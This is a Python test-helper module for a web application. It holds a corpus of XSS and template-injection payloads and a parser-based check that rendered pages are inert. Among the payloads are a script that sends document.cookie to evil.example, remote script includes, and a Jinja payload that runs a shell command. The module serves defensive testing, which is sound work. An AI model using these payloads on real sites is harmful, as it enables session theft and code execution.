"""Shared XSS test helpers: a corpus of hostile member input and a check that HTML is inert.

    from tests.xss import CORPUS, assert_inert

    for payload in CORPUS:
        ...  # post it as a title, body, comment, tag...
        assert_inert(client.get(url).text)

`assert_inert` tokenises the page with the stdlib `html.parser.HTMLParser` (close enough to a
browser for this purpose; where the two disagree it leans towards failing) and fails on
anything that could run script or change where the page loads from.
"""
from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable
from html.parser import HTMLParser

_LONG = "A" * 400

# Hostile strings a member could type into a title, body, comment, tag or username.
# Each is below 500 characters.
CORPUS: list[str] = [
    # --- script tags
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">alert(document.cookie)</script>',
    '<script src="https://evil.example/x.js"></script>',
    "<script/xss src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "Nice post!\n\n<script>fetch('//evil.example/?c='+document.cookie)</script>\n\nThanks.",
    # --- event handlers and attribute breakouts
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<a href="#" onclick="alert(1)">click</a>',
    "<marquee onstart=alert(1)>hi</marquee>",
    "<x-widget onclick=alert(1)>click me",
    # --- javascript: links in Markdown and HTML
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "<javascript:alert(1)>",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    # --- data: and vbscript: links
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](vbscript:msgbox(1))",
    '<a href="vbscript:msgbox(1)">x</a>',
    # --- SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # --- styles
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</p>',
    # --- frames, plugins, forms, document-level tags
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>Send</button></form>',
    '<form><button formaction="javascript:alert(1)">Send</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="import" href="https://evil.example/x.html">',
    # --- parser confusion and malformed markup
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1);//<</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    '";alert(1);//',
    # --- template injection
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "${alert(1)}",
    "#{7*7} <%= 7*7 %>",
    # --- Unicode tricks
    "Invoice \u202efdp.exe",
    "[x](java\u200bscript:alert(1))",
    "[x](java\u200dscript:alert(1))",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "[paypal.com](https://p\u0430ypal.com/login)",
    "<\u0455cript>alert(1)</\u0455cript>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[x](java\x00script:alert(1))",
    "<img src=x o\x00nerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "[x](\ufeffjavascript:alert(1))",
    # --- long attribute, titles, entities
    f'<a title="{_LONG}" onclick="alert(1)">x</a>',
    '![a](x "onerror=alert(1)")',
    '[a](http://x "\\" onmouseover=\\"alert(1)")',
    '[a](https://example.org/"onmouseover="alert(1))',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # --- Markdown containers around payloads, and linkify
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    'https://example.org/"><script>alert(1)</script>',
    "www.example.org/?q=<img src=x onerror=alert(1)>",
    "mailto:x@example.org?body=<script>alert(1)</script>",
]

# Attributes whose value is a URL (or a document, for srcdoc) the browser may load or run.
_URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster",
    "background", "codebase", "dynsrc", "lowsrc",
})
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
# Elements that never belong in these pages, whatever their attributes.
_FORBIDDEN_ELEMENTS = frozenset({
    "iframe", "frame", "frameset", "object", "embed", "applet", "portal", "base", "style",
    "math",
})
# The one kind of SVG the pages have: a decorative icon, <svg aria-hidden="true"> holding
# shapes only. Anything else inside an <svg> (script, a, animate, set, foreignObject, image,
# style...) fails, and so does an <svg> without aria-hidden="true".
_ICON_ELEMENTS = frozenset({
    "svg", "g", "path", "circle", "ellipse", "rect", "line", "polyline", "polygon", "use",
    "title", "desc",
})
# Where a browser ends a raw-text element but HTMLParser (looking for `</script>` only) may not.
_RAW_TEXT_END = re.compile(r"</(script|style)[\t\n\f\r />]", re.I)


def _squash(value: str) -> str:
    """A URL as a browser's scheme check sees it, and stricter: no spaces, controls, zero-widths."""
    return "".join(c for c in value
                   if not (c.isspace() or unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"})
                   ).lower()


class _InertChecker(HTMLParser):
    def __init__(self, markers: tuple[str, ...], where: str = "") -> None:
        super().__init__(convert_charrefs=True)
        self.markers = markers
        self.where = where
        self.problems: list[str] = []
        self._raw_tag: str | None = None  # script or style whose raw text is being read
        self._in_svg = False

    # -- reporting
    def _fail(self, reason: str, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        line, col = self.getpos()
        raw = self.get_starttag_text() or f"<{tag}>"
        if len(raw) > 300:
            raw = raw[:300] + "..."
        self.problems.append(f"{self.where}line {line} col {col}: {reason}: {raw!r} "
                             f"(tag {tag!r}, attributes {attrs!r})")

    def _recheck(self, html: str, why: str) -> None:
        inner = _InertChecker(self.markers, f"{self.where}[{why}] ")
        inner.feed(html)
        inner.close()
        self.problems.extend(inner.problems)

    # -- tokens
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "script":
            src = values.get("src", "").strip()
            if not (src.startswith("/static/") or values.get("nonce")):
                self._fail("script not loaded from /static/ and without a nonce", tag, attrs)
        elif tag in _FORBIDDEN_ELEMENTS:
            self._fail(f"forbidden element <{tag}>", tag, attrs)
        elif tag == "svg" and values.get("aria-hidden", "").strip().lower() != "true":
            self._fail("<svg> that is not a decorative icon (aria-hidden=\"true\")", tag, attrs)
        elif self._in_svg and tag not in _ICON_ELEMENTS:
            self._fail(f"<{tag}> inside an <svg> icon", tag, attrs)
        elif tag == "use" and not all(
                values[name].strip().startswith(("#", "/static/"))
                for name in ("href", "xlink:href") if name in values):
            self._fail("<use> of something other than a local icon", tag, attrs)
        elif tag == "meta" and values.get("http-equiv", "").strip().lower() == "refresh":
            self._fail("meta refresh", tag, attrs)
        elif tag == "link" and "import" in values.get("rel", "").lower().split():
            self._fail("HTML import", tag, attrs)
        for name, value in values.items():
            if name.startswith("on"):
                self._fail(f"event-handler attribute {name!r}", tag, attrs)
            elif name == "style":
                self._fail("inline style attribute", tag, attrs)
            elif name == "srcdoc":
                self._fail("srcdoc attribute", tag, attrs)
            elif name in _URL_ATTRIBUTES and _squash(value).startswith(_BAD_SCHEMES):
                self._fail(f"dangerous URL in {name!r}", tag, attrs)
        if tag in ("script", "style"):
            self._raw_tag = tag
        elif tag == "svg":
            self._in_svg = True

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw_tag:
            self._raw_tag = None
        elif tag == "svg":
            self._in_svg = False

    def handle_data(self, data: str) -> None:
        if self._raw_tag is not None:
            self._raw_text(data)

    def _raw_text(self, data: str) -> None:
        if self._raw_tag == "script":
            for marker in self.markers:
                if marker in data:
                    line, col = self.getpos()
                    self.problems.append(f"{self.where}line {line} col {col}: payload marker "
                                         f"{marker!r} inside a script: {data[:300]!r}")
        end = _RAW_TEXT_END.search(data)
        if end:  # a browser closes the element here and parses the rest as markup
            self._recheck(data[end.end():], f"after {end.group(0)!r}")

    def handle_comment(self, data: str) -> None:
        # Browsers also end a comment at `<!-->`, `<!--->` and `--!>`; HTMLParser 3.11 does not.
        ends = [m.end() for m in [re.match(r"-?>", data), re.search(r"--!>", data)] if m]
        if ends:
            self._recheck(data[min(ends):] + "-->", "comment closed early")

    def close(self) -> None:
        super().close()
        if self._raw_tag is not None and self.rawdata:  # unclosed script/style: text to the end
            self._raw_text(self.rawdata)


def assert_inert(html: str, payload_markers: Iterable[str] | None = None) -> None:
    """Fail unless `html` (a page or a fragment) is free of anything that could run script.

    Fails on: a `<script>` that neither loads from `/static/` nor carries a `nonce` attribute;
    `iframe`, `frame(set)`, `object`, `embed`, `applet`, `portal`, `base`, `style` and `math`
    elements; any `svg` other than a decorative icon (`<svg aria-hidden="true">` holding only
    g/path/circle/ellipse/rect/line/polyline/polygon/title/desc and `<use>` of `#...` or
    `/static/...`); `<meta http-equiv=refresh>`; `<link rel=import>`; any `on*` attribute,
    `style` attribute or `srcdoc` attribute; any URL attribute (`href`, `src`, `action`,
    `formaction`, `xlink:href`, `data`, ...) whose value, HTML-unescaped, stripped of
    whitespace, control and zero-width characters and lowercased, starts with `javascript:`,
    `vbscript:` or `data:`.

    payload_markers: optional strings (e.g. a unique token from the payload) that must not
    appear in the text of any `<script>` element, the allowed nonce'd ones included.

    The message lists every offending tag with its raw text, position and parsed attributes.
    """
    checker = _InertChecker(tuple(payload_markers or ()))
    checker.feed(str(html))
    checker.close()
    assert not checker.problems, "HTML is not inert:\n  " + "\n  ".join(checker.problems)
